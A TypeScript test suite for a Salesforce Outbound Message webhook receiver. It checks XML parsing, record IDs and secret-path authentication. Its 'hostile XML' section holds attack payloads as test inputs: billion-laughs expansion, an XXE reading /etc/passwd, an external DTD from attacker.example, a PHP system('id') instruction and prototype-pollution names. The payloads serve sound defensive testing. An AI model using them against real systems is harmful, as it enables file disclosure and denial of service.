import { describe, expect, it } from 'vitest';
import { createSalesforce, SALESFORCE_ACK } from '../../../crm/salesforce/index.ts';
import { parseRecordId } from '../../../crm/salesforce/record-id.ts';
import { codeOf, inbound } from './inbound.ts';
import { ORGANIZATION_ID, outboundMessage, type Sent } from './salesforce/message.ts';

const NOW = '2026-11-21T10:00:00.000Z';
const crm = createSalesforce({ triggerTokens: ['t'], now: () => new Date(NOW) });
const normalise = (text: string) => crm.normalise(Buffer.from(text));
const one = (sent: Sent) => normalise(outboundMessage([sent]))[0];

describe('an Outbound Message', () => {
  it('with one notification is one signal', () => {
    expect(normalise(outboundMessage([{ fields: { IsWon: 'true', IsClosed: 'true' } }]))).toEqual([
      {
        dealId: '006Hs00001AbCdEIAV',
        transitionKey: '00DHs0000000001:006Hs00001AbCdEIAV:04lHs0000000001IAA',
        occurredAt: NOW,
        eventType: 'opportunity.outbound_message',
      },
    ]);
  });

  it('with 100 notifications is 100 signals, in their order, each with its own key', () => {
    const sent = Array.from({ length: 100 }, (_, index) => ({
      notificationId: `04lHs0000000${String(index).padStart(3, '0')}IAA`,
    }));
    const signals = normalise(outboundMessage(sent));
    expect(signals).toHaveLength(100);
    expect(new Set(signals.map(({ transitionKey }) => transitionKey)).size).toBe(100);
    expect(signals[99]?.transitionKey).toContain('04lHs0000000099IAA');
    expect(codeOf(() => normalise(outboundMessage([...sent, {}])))).toBe('malformed_body');
    expect(codeOf(() => normalise(outboundMessage([])))).toBe('malformed_body');
  });

  it('that is repeated after the record changed keeps its key, and a new one of the same deal has another', () => {
    const first = one({ fields: { StageName: 'Signed', LastModifiedDate: '2026-11-20T09:00:00.000Z' } });
    const repeat = one({ fields: { StageName: 'Handed over', LastModifiedDate: '2026-11-20T19:00:00.000Z' } });
    const next = one({ notificationId: '04lHs0000000002IAA', fields: { StageName: 'Signed' } });
    expect(repeat?.transitionKey).toBe(first?.transitionKey);
    expect(next?.transitionKey).not.toBe(first?.transitionKey);
  });

  it('happened when the record says it was changed', () => {
    const times = { SystemModstamp: '2026-11-20T09:00:00.000Z', LastModifiedDate: '2026-11-20T08:00:00.000Z' };
    expect(one({ fields: times })?.occurredAt).toBe('2026-11-20T09:00:00.000Z');
    expect(one({ fields: { LastModifiedDate: '2026-11-20T08:00:00.000+0000' } })?.occurredAt).toBe(
      '2026-11-20T08:00:00.000Z',
    );
    expect(one({ fields: { SystemModstamp: 'yesterday' } })?.occurredAt).toBe(NOW);
  });

  it.each<[Sent, RegExp | undefined]>([
    [{ type: 'Contact', fields: { Id: '003Hs00001AbCdEIAV' } }, /Contact, not an Opportunity/],
    [{ fields: { IsWon: 'false' } }, undefined],
    [{ fields: { IsClosed: 'false', IsWon: 'false' } }, undefined],
    [{ fields: { IsWon: '' } }, undefined],
    [{ fields: { StageName: 'Closed Lost' } }, undefined],
  ])('of %j is ignored for %s', (sent, reason) => {
    const ignore = one(sent)?.ignore;
    expect(ignore).toEqual(reason === undefined ? undefined : expect.stringMatching(reason));
  });

  it('tells one deal by one id, in 15 and in 18 characters', () => {
    expect(one({ fields: { Id: '006Hs00001AbCdE' } })?.dealId).toBe('006Hs00001AbCdEIAV');
    expect(codeOf(() => one({ fields: { Id: '006Hs00001AbCdEAAA' } }))).toBe('malformed_body');
    expect(codeOf(() => one({ fields: { Id: "006' OR Name != '" } }))).toBe('malformed_body');
  });

  it('may use any prefixes, CDATA, comments and a byte order mark', () => {
    const text = `\ufeff<?xml version='1.0' encoding='utf-8' standalone='yes'?>
<!-- made elsewhere -->
<S:Envelope xmlns:S="http://schemas.xmlsoap.org/soap/envelope/" xmlns:o="http://soap.sforce.com/2005/09/outbound"
  xmlns:i="http://www.w3.org/2001/XMLSchema-instance"><S:Header/><S:Body><o:notifications>
<o:OrganizationId>00DHs0000000001</o:OrganizationId><o:Notification><o:Id>04lHs0000000001IAA</o:Id>
<o:sObject i:type="x:Opportunity" xmlns:x="urn:sobject.enterprise.soap.sforce.com"><x:Id><![CDATA[006Hs00001AbCdE]]></x:Id>
<x:Name>R&amp;D &lt;one&gt;</x:Name></o:sObject></o:Notification></o:notifications></S:Body></S:Envelope>`;
    expect(normalise(text)[0]).toMatchObject({
      dealId: '006Hs00001AbCdEIAV',
      transitionKey: '00DHs0000000001:006Hs00001AbCdEIAV:04lHs0000000001IAA',
    });
  });

  it.each([
    ['another namespace', (text: string) => text.replace('2005/09/outbound', '2005/09/inbound')],
    ['no envelope', () => '<notifications/>'],
    ['nothing', () => ''],
    ['JSON', () => '{"a":1}'],
    ['an unclosed element', (text: string) => text.replace('</soapenv:Body>', '')],
    ['two roots', (text: string) => `${text}<a/>`],
    ['no record', (text: string) => text.replace(/<sObject[\s\S]*<\/sObject>/, '')],
    ['two ids', (text: string) => text.replace('</sf:Id>', '</sf:Id><Id>006Hs00001AbCdE</Id>')],
    ['no notification id', (text: string) => text.replace(/<Id>.*<\/Id>/, '')],
    ['no organization', (text: string) => text.replace(/<OrganizationId>.*<\/OrganizationId>/, '')],
    ['a declared other encoding', (text: string) => text.replace('UTF-8', 'ISO-8859-1')],
  ])('with %s is malformed', (_what, change) => {
    expect(codeOf(() => normalise(change(outboundMessage())))).toBe('malformed_body');
  });

  it('in another encoding is refused by name', () => {
    const utf16 = Buffer.from(`\ufeff${outboundMessage()}`, 'utf16le');
    expect(() => crm.normalise(utf16)).toThrow(/UTF-8/);
    const latin = Buffer.from(outboundMessage([{ fields: { Name: 'Zoë' } }]), 'latin1');
    expect(() => crm.normalise(latin)).toThrow(/UTF-8/);
  });
});

describe('hostile XML', () => {
  const laughs = Array.from({ length: 10 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join('');
  const put = (doctype: string, id = '&l10;') =>
    outboundMessage([{ fields: { Id: id } }]).replace('?>', `?>${doctype}`);
  it.each([
    ['that expands without end', put(`<!DOCTYPE a [<!ENTITY l0 "lol">${laughs}]>`)],
    ['that reads a file', put('<!DOCTYPE a [<!ENTITY l10 SYSTEM "file:///etc/passwd">]>')],
    ['that fetches', put('<!doctype a SYSTEM "http://attacker.example/a.dtd">')],
    ['with a processing instruction', put('<?php system("id") ?>', '006Hs00001AbCdE')],
    ['with a stylesheet', put('<?xml-stylesheet href="http://attacker.example"?>', '006Hs00001AbCdE')],
    ['of 10 MB', outboundMessage([{ fields: { Name: 'x'.repeat(10 * 1024 * 1024) } }])],
    ['of 300,000 levels', `${'<a>'.repeat(150_000)}${'</a>'.repeat(150_000)}`],
    ['of 20 levels', outboundMessage([{ fields: { Name: `${'<a>'.repeat(20)}${'</a>'.repeat(20)}` } }])],
    ['of unclosed brackets', '<'.repeat(1_000_000)],
    ['of unclosed comments', '<!--'.repeat(200_000)],
    ['of a quarter of a million elements', `<a>${'<b/>'.repeat(250_000)}</a>`],
    ['of as many attributes', `<a ${Array.from({ length: 60_000 }, (_, n) => `b${n}="c"`).join(' ')}/>`],
    ['of an endless declaration', `<?xml ${' encoding'.repeat(100_000)}`],
    ['of an endless closing tag', `<a></a${' '.repeat(1_000_000)}`],
    ['of one endless tag', `<a ${'b="c" '.repeat(150_000)}`],
    ['with the name __proto__', '<__proto__><Body/></__proto__>'],
  ])('%s is refused at once', (_what, text) => {
    // Its own time on the processor: what else the machine does is not its fault.
    const before = process.cpuUsage();
    const refused = codeOf(() => normalise(text));
    const { user, system } = process.cpuUsage(before);
    expect(refused).toBe('malformed_body');
    expect((user + system) / 1000).toBeLessThan(2_000);
  });

  it.each([
    ['document type', put('<!DOCTYPE a>', '006Hs00001AbCdE')],
    ['entity declaration', put('', '006Hs00001AbCdE<!entity a "b">')],
    ['processing instruction', put('', '<?a b?>006Hs00001AbCdE')],
    ['larger than', outboundMessage([{ fields: { Name: 'x'.repeat(1024 * 1024) } }])],
    ['well-formed', outboundMessage([{ fields: { Name: `${'<a>'.repeat(20)}${'</a>'.repeat(20)}` } }])],
    ['ISO-8859-1', outboundMessage().replace('UTF-8', 'ISO-8859-1')],
  ])('is refused in words: %s', (words, text) => {
    expect(() => normalise(text)).toThrow(words);
  });

  it('of names that JavaScript knows changes no object', () => {
    const fields = { Name: '<__proto__><polluted>1</polluted></__proto__><constructor>1</constructor>' };
    try {
      one({ fields });
    } catch (error) {
      expect(error).toMatchObject({ code: 'malformed_body' });
    }
    expect(Object('').polluted).toBeUndefined();
  });
});

describe('the answer to Salesforce', () => {
  it('is an envelope with an Ack of the outbound namespace', () => {
    expect(SALESFORCE_ACK.contentType).toBe('text/xml; charset=utf-8');
    expect(SALESFORCE_ACK.body).toContain(
      '<notificationsResponse xmlns="http://soap.sforce.com/2005/09/outbound"><Ack>true</Ack></notificationsResponse>',
    );
  });
});

describe('the sender of an Outbound Message', () => {
  const TOKEN = 'b7b0c9d1e2f3a4b5';
  const send = (path: string, text = outboundMessage()) => inbound({ path, text });
  const receiver = (options: { organizationId?: string; triggerTokens?: string[] } = {}) =>
    createSalesforce({ triggerTokens: [TOKEN], ...options });

  it('is known by the last segment of the path, whatever the query and the path before it', () => {
    expect(receiver().verify(send(`/triggers/salesforce/${TOKEN}`)).scheme).toBe('secret path');
    expect(receiver().verify(send(`/kickoff/triggers/salesforce/${TOKEN}?x=/y`)).scheme).toBe('secret path');
    expect(receiver({ triggerTokens: ['a b/ü'] }).verify(send('/triggers/salesforce/a%20b%2F%C3%BC')).scheme).toBe(
      'secret path',
    );
  });

  it('may use the old and the new token while one replaces the other', () => {
    const both = receiver({ triggerTokens: ['new-token', TOKEN] });
    expect(both.verify(send('/triggers/salesforce/new-token'))).toEqual({ scheme: 'secret path', secret: 1 });
    expect(both.verify(send(`/triggers/salesforce/${TOKEN}`))).toEqual({ scheme: 'secret path', secret: 2 });
    const after = receiver({ triggerTokens: ['new-token'] });
    expect(codeOf(() => after.verify(send(`/triggers/salesforce/${TOKEN}`)))).toBe('no_match');
  });

  it.each([
    ['/triggers/salesforce/other', 'no_match'],
    [`/triggers/salesforce/${TOKEN}x`, 'no_match'],
    [`/triggers/salesforce/${TOKEN.slice(0, -1)}`, 'no_match'],
    [`/triggers/salesforce/%E0%A4%A`, 'no_match'],
    ['/triggers/salesforce', 'missing_signature'],
    ['/triggers/salesforce/', 'missing_signature'],
    [`/triggers/salesforce/?${TOKEN}`, 'missing_signature'],
    [`/triggers/salesforce?/salesforce/${TOKEN}`, 'missing_signature'],
  ])('at %s is refused: %s', (path, code) => {
    expect(codeOf(() => receiver().verify(send(path)))).toBe(code);
  });

  it('cannot be known when no token is configured, nor by an empty one', () => {
    const path = send(`/triggers/salesforce/${TOKEN}`);
    expect(codeOf(() => receiver({ triggerTokens: [] }).verify(path))).toBe('configuration');
    expect(codeOf(() => receiver({ triggerTokens: [''] }).verify(send('/triggers/salesforce/')))).toBe('configuration');
  });

  it('must be the configured organization, compared by 15 characters', () => {
    const path = `/triggers/salesforce/${TOKEN}`;
    for (const organizationId of [ORGANIZATION_ID, ORGANIZATION_ID.slice(0, 15)]) {
      expect(receiver({ organizationId }).verify(send(path)).scheme).toBe('secret path');
      const short = outboundMessage([{}], ORGANIZATION_ID.slice(0, 15));
      expect(receiver({ organizationId }).verify(send(path, short)).scheme).toBe('secret path');
      const other = outboundMessage([{}], '00DHs0000000002MAA');
      expect(codeOf(() => receiver({ organizationId }).verify(send(path, other)))).toBe('no_match');
      expect(codeOf(() => receiver({ organizationId }).verify(send(path, '<a/>')))).toBe('malformed_body');
    }
    expect(codeOf(() => receiver({ organizationId: 'acme' }).verify(send(path)))).toBe('configuration');
  });

  it('learns nothing about the body with a wrong token', () => {
    const organizationId = ORGANIZATION_ID;
    const request = send('/triggers/salesforce/other', '<not xml');
    expect(codeOf(() => receiver({ organizationId }).verify(request))).toBe('no_match');
  });
});

describe('an id of Salesforce', () => {
  it.each([
    ['0019000000B98de', '0019000000B98deAAB'],
    ['0019000000B98deAAB', '0019000000B98deAAB'],
    ['0019000000B98deaab', '0019000000B98deAAB'],
    ['ABCDEFGHIJKLMNO', 'ABCDEFGHIJKLMNO555'],
    ['000000000000000', '000000000000000AAA'],
    ['0019000000B98deAAA', undefined],
    ['0019000000B98d', undefined],
    ['0019000000B98deAA', undefined],
    ["0019000000B98d'", undefined],
    ['0019000000B98de\n', undefined],
    ['0019000000B98dé', undefined],
    ['', undefined],
  ])('%j is %j', (text, expected) => {
    expect(parseRecordId(text)).toBe(expected);
  });
});
